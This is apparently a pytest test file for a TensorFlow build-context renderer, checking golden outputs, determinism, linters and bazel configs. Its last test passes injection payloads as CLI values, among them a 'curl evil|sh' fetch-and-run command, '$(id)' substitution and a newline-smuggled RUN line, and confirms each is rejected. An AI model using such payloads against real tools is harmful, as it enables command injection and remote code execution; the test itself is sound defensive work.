"""Rendering: golden files, determinism, linters on every recipe x variant, config and injection checks.

Regenerate the golden files after an intended change with ``make golden`` (TFBUILD_UPDATE_GOLDEN=1),
then review the diff.
"""

from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from tests.conftest import ROOT, recorded_host, run_cli
from tests.goldens import compare_or_write_files
from tfbuild.core.errors import UnsupportedError
from tfbuild.detect.host import HostFacts
from tfbuild.plan import PlanOptions, make_plan
from tfbuild.plan.render import FILES, check, render_files
from tfbuild.recipes.images import load_base_images
from tfbuild.recipes.recipe import load_recipes

GOLDEN = Path(__file__).parent / "golden_render"
BIN = Path(sys.executable).parent


def fixed_host(machine: str = "zen5-vm", **changes: object) -> HostFacts:
    return recorded_host(machine, memory_gib=8, disk_gib=200, **changes)


def render(version: str, options: PlanOptions, facts: HostFacts | None = None) -> dict[str, str]:
    recipe = load_recipes().get(version)
    plan = make_plan(options, recipe, facts or fixed_host(), base_images=load_base_images())
    return render_files(plan)


# name -> (version, options, host machine)
CASES = {
    "tf2.21-mkl-zen5": ("2.21", PlanOptions(variant="mkl"), "zen5-vm"),
    "tf2.21-cuda-x86_64_v3": ("2.21", PlanOptions(variant="cuda", target="x86_64_v3"), "zen5-vm"),
    "tf2.21-openmp-sapphirerapids": (
        "2.21", PlanOptions(variant="mkl", mkl_threading="openmp"), "sapphirerapids",
    ),
    "tf2.18-cpu-haswell": ("2.18", PlanOptions(variant="cpu"), "haswell"),
    "tf2.16-mkl-zen4": ("2.16", PlanOptions(variant="mkl"), "zen4"),
    "tf2.16-cuda-x86_64_v3": ("2.16", PlanOptions(variant="cuda", target="x86_64_v3"), "zen4"),
    "tf2.13-cpu-skylake": ("2.13", PlanOptions(variant="cpu"), "skylake_avx512"),
}  # fmt: skip


def _shipped(version: str) -> bool:
    return version in {r.short for r in load_recipes().recipes}


@pytest.mark.parametrize("case", sorted(CASES))
def test_golden(case: str) -> None:
    version, options, machine = CASES[case]
    if not _shipped(version):
        pytest.fail(f"no shipped recipe for {version}")
    files = render(version, options, fixed_host(machine))
    compare_or_write_files(GOLDEN / case, files)


def test_rendering_is_byte_identical_across_processes(tmp_path: Path) -> None:
    code = (
        "import sys, dataclasses\n"
        "from tests.plan.test_render import render, fixed_host\n"
        "from tfbuild.plan import PlanOptions\n"
        "files = render('2.21', PlanOptions(variant='mkl'))\n"
        "sys.stdout.write(''.join(files[k] for k in sorted(files)))\n"
    )
    outputs = set()
    for seed in ("1", "2"):
        env = {**os.environ, "PYTHONHASHSEED": seed, "TZ": "Asia/Tokyo" if seed == "1" else "UTC"}
        out = subprocess.run(
            [sys.executable, "-c", code],
            capture_output=True,
            text=True,
            env=env,
            cwd=ROOT,
            check=True,
        ).stdout
        outputs.add(out)
    assert len(outputs) == 1


def _all_contexts() -> list[tuple[str, dict[str, str]]]:
    result = []
    for recipe in load_recipes().recipes:
        variants = ["cpu", "mkl"] + (["cuda"] if recipe.cuda is not None else [])
        for variant in variants:
            options = PlanOptions(variant=variant)  # type: ignore[arg-type]
            result.append((f"{recipe.short}-{variant}", render(recipe.short, options)))
    return result


CONTEXTS = _all_contexts()


@pytest.mark.parametrize(("name", "files"), CONTEXTS, ids=[n for n, _ in CONTEXTS])
def test_every_dockerfile_passes_hadolint(name: str, files: dict[str, str], tmp_path: Path) -> None:
    dockerfile = tmp_path / "Dockerfile"
    dockerfile.write_text(files["Dockerfile"])
    result = subprocess.run(
        [str(BIN / "hadolint"), "--no-color", str(dockerfile)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 0, result.stdout + result.stderr


@pytest.mark.parametrize(("name", "files"), CONTEXTS, ids=[n for n, _ in CONTEXTS])
def test_every_build_script_passes_shellcheck(
    name: str, files: dict[str, str], tmp_path: Path
) -> None:
    script = tmp_path / "build.sh"
    script.write_text(files["build.sh"])
    result = subprocess.run(
        [str(BIN / "shellcheck"), "--severity=style", str(script)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 0, result.stdout + result.stderr


@pytest.mark.parametrize(("name", "files"), CONTEXTS, ids=[n for n, _ in CONTEXTS])
def test_no_buildkit_only_syntax(name: str, files: dict[str, str]) -> None:
    dockerfile = files["Dockerfile"]
    assert not re.search(r"^\s*#\s*syntax=", dockerfile, re.MULTILINE)
    assert "--mount=" not in dockerfile
    assert "--checksum=" not in dockerfile
    assert not re.search(r"<<-?\s*['\"]?[A-Z]+", dockerfile), "heredocs need BuildKit"


@pytest.mark.parametrize(("name", "files"), CONTEXTS, ids=[n for n, _ in CONTEXTS])
def test_every_config_used_is_defined(name: str, files: dict[str, str]) -> None:
    version = name.split("-")[0]
    recipe = load_recipes().get(version)
    check(files, recipe)  # every one defined: no error
    used = set(re.findall(r"--config=([A-Za-z0-9_]+)", files["build.sh"]))
    assert "opt" in used
    assert "build:opt --copt=" in files["tf_configure.bazelrc"]
    for gone in ("avx2_linux", "native_arch_linux", "noaws", "nohdfs"):
        assert gone not in used


def test_undefined_config_is_caught() -> None:
    recipe = load_recipes().get("2.21")
    files = render("2.21", PlanOptions(variant="mkl"))
    files["build.sh"] = files["build.sh"].replace(
        "--config=opt", "--config=opt \\\n  --config=avx2_linux"
    )
    with pytest.raises(UnsupportedError) as caught:
        check(files, recipe)
    assert caught.value.what == "the build would use undefined bazel config(s) avx2_linux"


def test_render_writes_every_file_and_an_executable_script(tmp_path: Path) -> None:
    out = tmp_path / "ctx"
    result = run_cli("render", "--tf", "2.21", "--mkl", "-o", str(out), "--skip-disk-check")
    assert result.returncode == 0, result.stderr
    # The files and, written last, the manifest of what tfbuild wrote (tests/plan/test_context_set.py).
    assert sorted(p.name for p in out.iterdir()) == sorted([*FILES, ".tfbuild-context"])
    assert os.access(out / "build.sh", os.X_OK)
    assert not any(p.name.startswith(".tfbuild-tmp-") for p in out.iterdir()), "no temp files left"


@pytest.mark.parametrize(
    ("args", "fragment"),
    [
        (["--remote-cache", "grpc://cache:1; curl evil|sh"], "is not a plain URL"),
        (["--cache-volume", "$(id)"], "is not a Docker volume name"),
        (["--python", "3.11\nRUN x"], "names no Python"),
        (["--cuda-capabilities", "sm_90;id"], "not a compute capability"),
    ],
)
def test_hostile_cli_values_never_reach_the_files(
    args: list[str], fragment: str, tmp_path: Path
) -> None:
    """Each is a malformed value: a usage error (exit 2), and nothing is written."""
    extra = ["--cuda"] if "--cuda-capabilities" in args else ["--mkl"]
    result = run_cli(
        "render", "--tf", "2.21", *extra, *args, "-o", str(tmp_path / "ctx"), "--skip-disk-check"
    )
    assert result.returncode == 2, result.stderr
    assert fragment in result.stderr
    assert not (tmp_path / "ctx").exists()
